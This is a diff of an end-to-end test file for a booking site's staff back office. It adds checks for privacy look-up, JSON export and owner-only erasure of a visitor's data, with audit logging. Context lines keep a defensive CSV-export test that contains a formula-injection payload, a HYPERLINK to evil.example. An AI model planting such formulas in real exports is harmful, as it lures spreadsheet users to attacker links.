@@ -11,7 +11,7 @@ import { randomUUID } from 'node:crypto';
 import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import type { APIRequestContext, Page, TestInfo } from '@playwright/test';
-import { STAFF_ROUTES } from '../../src/domain/api/staff';
+import { STAFF_ROUTES, type PrivacyRecord } from '../../src/domain/api/staff';
 import { calendarDateOf } from '../../src/domain/booking/slots';
 import { axeViolations, expect, test, waitForHydration } from './fixtures';
 import { e2eNow, OUTBOX, shiftPageClocks } from './stack';
@@ -354,6 +354,9 @@ const EVERY_RESOURCE: { method: 'GET' | 'POST' | 'PATCH'; path: string; body?: u
   },
   { method: 'GET', path: STAFF_ROUTES.export('bookings') },
   { method: 'GET', path: STAFF_ROUTES.export('inquiries') },
+  { method: 'GET', path: STAFF_ROUTES.privacy('ada@example.com') },
+  { method: 'GET', path: STAFF_ROUTES.privacyExport('ada@example.com') },
+  { method: 'POST', path: STAFF_ROUTES.privacyErase, body: { email: 'ada@example.com', confirm: 'ada@example.com' } },
 ];
 
 test('every staff resource refuses the anonymous, the non-staff and forged, expired or orphaned tokens @desktop', async ({
@@ -405,7 +408,7 @@ test('every staff resource refuses the anonymous, the non-staff and forged, expi
   expect(((await expired.json()) as { reason: string }).reason).toBe('sessionEnded');
   const me = await request.get(STAFF_ROUTES.me, { headers: { Authorization: `Bearer ${staff.idToken}` } });
   expect(me.status()).toBe(200);
-  expect(await me.json()).toEqual({ uid: staff.uid, email: staff.email });
+  expect(await me.json()).toEqual({ uid: staff.uid, email: staff.email, owner: false });
 });
 
 test('the leads export downloads from the back office, and a name that is a formula opens as text @desktop', async ({
@@ -434,4 +437,93 @@ test('the leads export downloads from the back office, and a name that is a form
   expect(row, 'the lead is in the export').toBeDefined();
   // RFC 4180 quoting doubles the quotes; the neutralising apostrophe comes first in the cell.
   expect(row).toContain(`"'=HYPERLINK(""http://evil.example/${marker}"",""Click me"")"`);
+});
+
+test('a staff member finds a visitor by email and exports their data; an owner erases them, the meeting cancelled with both emails, and nothing names them after', async ({
+  page,
+  request,
+}, testInfo) => {
+  test.setTimeout(120_000);
+  const name = `Pia Privacy ${randomUUID().slice(0, 6)}`;
+  const email = visitorEmail(testInfo, 'privacy');
+  await bookByApi(request, name, email);
+  await sendInquiry(request, name, email);
+
+  // A staff member who is not an owner: sees and exports, cannot erase.
+  const staff = await account('privacy', true);
+  await signInByEmailLink(page, staff.email);
+  const openPrivacy = async () => {
+    await page.getByRole('navigation', { name: 'Back office' }).getByRole('link', { name: 'Privacy' }).click();
+    await page.getByRole('search').getByLabel('Email address').fill(email.toUpperCase());
+    await page.getByRole('button', { name: 'Find', exact: true }).click();
+  };
+  await openPrivacy();
+  const held = page.getByRole('region', { name: `Held about ${email}` });
+  await expect(held).toBeVisible({ timeout: 15_000 });
+  await expect(held.getByRole('list', { name: 'Leads' }).getByRole('listitem')).toHaveCount(1);
+  await expect(held.getByRole('list', { name: 'Upcoming meetings' }).getByRole('listitem')).toHaveCount(1);
+  await expect(held.getByText("Only an owner of the back office can erase a person's data.")).toBeVisible();
+  expect(await axeViolations(page)).toEqual([]);
+  await page.screenshot({ path: testInfo.outputPath('privacy.png'), fullPage: true });
+
+  const download = page.waitForEvent('download');
+  await held.getByRole('button', { name: 'Export as JSON' }).click();
+  const file = await download;
+  const exported = JSON.parse(await readFile((await file.path())!, 'utf8')) as PrivacyRecord;
+  expect(exported.email).toBe(email);
+  expect(exported.leads.map((lead) => lead.name)).toEqual([name]);
+  expect(exported.bookings.upcoming.map((booking) => booking.email)).toEqual([email]);
+  const refused = await request.post(STAFF_ROUTES.privacyErase, {
+    headers: { Authorization: `Bearer ${staff.idToken}` },
+    data: { email, confirm: email },
+  });
+  expect(refused.status()).toBe(403);
+
+  // An owner erases them.
+  await page.getByRole('button', { name: 'Sign out' }).click();
+  const owner = await account('privacy-owner', true, { owner: true });
+  await signInByEmailLink(page, owner.email);
+  await openPrivacy();
+  await expect(held).toBeVisible({ timeout: 15_000 });
+  await held.getByLabel('Type the address again to confirm').fill(email);
+  expect(await axeViolations(page)).toEqual([]);
+  await held.getByRole('button', { name: 'Erase everything' }).click();
+  await expect(page.getByRole('status').filter({ hasText: 'Erased: 1 upcoming meeting(s) cancelled' })).toContainText(
+    'Nothing held names this address any more.',
+    { timeout: 20_000 },
+  );
+  // Not looked up again (a look-up is audited with the address it names).
+  await expect(held).toHaveCount(0);
+  const cancellations = (await mailTo(email)).filter((message) => message.subject.includes('is cancelled'));
+  expect(cancellations).toHaveLength(1);
+  const agency = (await mailTo('hello@lakeforge.ca')).filter(
+    (message) =>
+      message.subject === `Booking cancelled: ${name}, ${cancellations[0]!.subject.split('is cancelled: ')[1]}`,
+  );
+  expect(agency).toHaveLength(1);
+
+  // No export, list or feed names them; the audit log keeps the erasure.
+  const asOwner = { Authorization: `Bearer ${owner.idToken}` };
+  for (const path of [STAFF_ROUTES.export('bookings'), STAFF_ROUTES.export('inquiries')]) {
+    expect(await (await request.get(path, { headers: asOwner })).text()).not.toContain(email);
+  }
+  const { url } = (await (await request.get(STAFF_ROUTES.feed, { headers: asOwner })).json()) as { url: string };
+  expect(await (await request.get(new URL(url).pathname)).text()).not.toContain(email);
+  for (const path of [`${STAFF_ROUTES.inquiries}?q=${encodeURIComponent(email)}`, STAFF_ROUTES.bookings]) {
+    expect(await (await request.get(path, { headers: asOwner })).text()).not.toContain(email);
+  }
+
+  // The audit log shows the erasure: by whom and when, never whose data it was.
+  await page.getByRole('navigation', { name: 'Back office' }).getByRole('link', { name: 'Audit log' }).click();
+  await page.getByRole('search', { name: 'Filter the audit log' }).getByLabel("Staff member's email").fill(owner.email);
+  await page.getByLabel('Action').selectOption({ label: 'Person erased' });
+  const erasures = page.getByRole('list', { name: 'Audit entries' }).getByRole('article');
+  await expect(erasures).toHaveCount(1, { timeout: 15_000 });
+  await expect(erasures.first()).toContainText(`Person erased${owner.email}`);
+  await expect(erasures.first()).toContainText('done');
+  await expect(erasures.first()).not.toContainText(email);
+  // Nothing widens the page past the screen (the action names are long for a phone's select).
+  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
+  expect(await axeViolations(page)).toEqual([]);
+  await page.screenshot({ path: testInfo.outputPath('audit.png'), fullPage: true });
 });
